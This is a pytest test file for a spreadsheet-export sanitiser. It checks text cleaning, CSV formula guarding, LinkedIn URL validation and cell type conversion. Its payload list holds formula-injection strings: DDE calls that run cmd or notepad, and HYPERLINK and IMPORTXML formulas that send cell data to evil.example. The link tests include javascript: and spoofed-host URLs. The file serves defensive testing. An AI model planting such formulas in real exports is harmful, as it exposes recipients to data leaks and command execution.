"""Hostile text must stay text: pipeline.export.cells."""

from __future__ import annotations

import datetime as dt

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook

from pipeline.export.cells import (
    TRUNCATION_MARKER,
    append_row,
    append_rows,
    cell_value,
    safe_column,
    safe_csv_text,
    safe_link,
    safe_text,
    write_cell,
)

#: Classic OWASP CSV-injection payloads and friends; every one must stay inert.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    " =1",
    "  @SUM(1+1)",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "-5 years",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "+cmd|' /C notepad'!'A1'",
    "#N/A",
    "#DIV/0!",
]

TRIGGERED_IN_CSV = [p for p in PAYLOADS if not p.startswith("#")]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_keeps_payload_text_except_carriage_returns(payload: str) -> None:
    assert safe_text(payload) == payload.replace("\r", "\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_write_cell_stores_payload_as_a_string_never_a_formula(payload: str) -> None:
    ws = Workbook().active
    cell = write_cell(ws, 1, 1, payload)
    assert cell.data_type == "s"
    assert cell.value == payload.replace("\r", "\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_append_rows_stores_payload_as_a_string(payload: str) -> None:
    ws = Workbook().active
    ws.append(["header"])
    append_rows(ws, [["Ada", payload], [payload, 0.5]])
    assert [(c.value, c.data_type) for c in ws[3]] == [
        (payload.replace("\r", "\n"), "s"),
        (0.5, "n"),
    ]
    assert ws["A2"].data_type == "s"


@pytest.mark.parametrize("payload", TRIGGERED_IN_CSV)
def test_csv_guards_every_trigger_with_a_quote(payload: str) -> None:
    guarded = safe_csv_text(payload)
    assert guarded == "'" + payload.replace("\r", "\n")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Data Scientist", "Data Scientist"),
        ("a=b", "a=b"),
        ("Jane - Acme", "Jane - Acme"),
        ("＝1+1", "'＝1+1"),  # full-width equals: some East Asian Excel builds evaluate it
        (-5, "-5"),  # a real number is not a formula
        (0.25, "0.25"),
        (True, "TRUE"),
        (None, ""),
        (float("nan"), ""),
        (pd.NA, ""),
        (dt.date(2024, 3, 1), "2024-03-01"),
    ],
)
def test_safe_csv_text_table(value: object, expected: str) -> None:
    assert safe_csv_text(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        (float("nan"), None),
        (np.nan, None),
        (pd.NA, None),
        (pd.NaT, None),
        ("", None),
        ("   ", None),
        ("\x00\x01", None),
        ("Ada\x00 Park\x1f", "Ada Park"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("bad \ud800 surrogate", "bad  surrogate"),
        ("no\ufffe\uffffchar", "nochar"),
        ("  José Núñez ", "  José Núñez "),
        (12, "12"),
    ],
)
def test_safe_text_table(value: object, expected: str | None) -> None:
    assert safe_text(value) == expected


def test_safe_text_cuts_long_text_with_a_visible_marker() -> None:
    cut = safe_text("x" * 40_000)
    assert cut is not None
    assert len(cut) == 32_000
    assert cut.endswith(TRUNCATION_MARKER)
    assert safe_text("abcdefghij", max_len=8) == "abcd" + TRUNCATION_MARKER
    assert safe_text("x" * 32_000) == "x" * 32_000


def test_safe_text_never_exceeds_excel_limit_even_with_max_len_above_it() -> None:
    cut = safe_text("y" * 50_000, max_len=100_000)
    assert cut is not None
    assert len(cut) == 32_767


def test_safe_text_counts_emoji_as_two_units_and_never_splits_one() -> None:
    cut = safe_text("😀" * 10, max_len=8)  # 20 UTF-16 units
    assert cut == "😀" * 2 + TRUNCATION_MARKER
    assert safe_text("😀" * 4, max_len=8) == "😀" * 4


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://www.linkedin.com/in/ada-park", "https://www.linkedin.com/in/ada-park"),
        ("https://www.linkedin.com/in/ada-park/", "https://www.linkedin.com/in/ada-park"),
        ("https://linkedin.com/in/ada-park", "https://www.linkedin.com/in/ada-park"),
        ("https://ca.linkedin.com/in/ada-park", "https://www.linkedin.com/in/ada-park"),
        ("HTTPS://WWW.LinkedIn.com/in/Ada-Park", "https://www.linkedin.com/in/ada-park"),
        ("https://www.linkedin.com/in/jos%C3%A9-n", "https://www.linkedin.com/in/jos%C3%A9-n"),
        (" https://www.linkedin.com/in/ada-park ", "https://www.linkedin.com/in/ada-park"),
        ("javascript:alert(1)", None),
        ("javascript://www.linkedin.com/in/x%0aalert(1)", None),
        ("http://www.linkedin.com/in/ada-park", None),
        ("http://evil.com/in/x", None),
        ("https://evil.com/in/x", None),
        ("https://linkedin.com.evil.com/in/x", None),
        ("https://evillinkedin.com/in/x", None),
        ("https://user:pw@www.linkedin.com/in/x", None),
        ("https://www.linkedin.com@evil.com/in/x", None),
        ("https://www.linkedin.com:8443/in/x", None),
        ("https://a.b.linkedin.com/in/x", None),
        ("https://www.linkedin.com/company/acme", None),
        ("https://www.linkedin.com/in/", None),
        ("https://www.linkedin.com/in/x/details", None),
        ("https://www.linkedin.com/in/x?trk=1", None),
        ("https://www.linkedin.com/in/x#top", None),
        ("https://www.linkedin.com/in/a%2Fb", None),  # encoded slash
        ("https://www.linkedin.com/in/a%00b", None),
        ("https://www.linkedin.com/in/%ff", None),  # not UTF-8
        ("\thttps://www.linkedin.com/in/x", None),
        ("https://www.linkedin.com/in/x\n", None),
        ("https://www.lin\u212aedin.com/in/x", None),  # Kelvin sign posing as "k"
        ('=HYPERLINK("https://www.linkedin.com/in/x")', None),
        (None, None),
        (float("nan"), None),
    ],
)
def test_safe_link_table(url: object, expected: str | None) -> None:
    assert safe_link(url) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (np.int64(3), 3),
        (np.float64(0.5), 0.5),
        (np.bool_(True), True),
        (float("inf"), None),
        (float("-inf"), None),
        (pd.NaT, None),
        (np.datetime64("NaT"), None),
        (pd.Timestamp("2024-05-01 09:30"), dt.datetime(2024, 5, 1, 9, 30)),
        (pd.Timestamp("2024-05-01 09:30", tz="America/Toronto"), dt.datetime(2024, 5, 1, 9, 30)),
        (np.datetime64("2024-05-01"), dt.datetime(2024, 5, 1)),
        (dt.date(2024, 5, 1), dt.date(2024, 5, 1)),
        ("=1+1", "=1+1"),
        (["a", "b"], "['a', 'b']"),
    ],
)
def test_cell_value_table(value: object, expected: object) -> None:
    result = cell_value(value)
    assert result == expected
    assert type(result) is type(expected)


def test_cell_value_keeps_types_openpyxl_can_write() -> None:
    ws = Workbook().active
    values = [np.int64(3), np.float64(0.5), True, pd.Timestamp("2024-05-01", tz="UTC"), "=1"]
    row = append_row(ws, values)
    assert row == 1
    assert [c.data_type for c in ws[1]] == ["n", "n", "b", "d", "s"]


def test_safe_column_maps_each_value_and_handles_unhashable() -> None:
    column = pd.Series(["=1", "=1", None, 2.0], dtype="object")
    assert safe_column(column) == ["=1", "=1", None, 2.0]
    assert safe_column([["x"], {"a": 1}]) == ["['x']", "{'a': 1}"]
    mixed = safe_column([1, True, 1.0, np.int64(1)])
    assert [type(v) for v in mixed] == [int, bool, float, int]
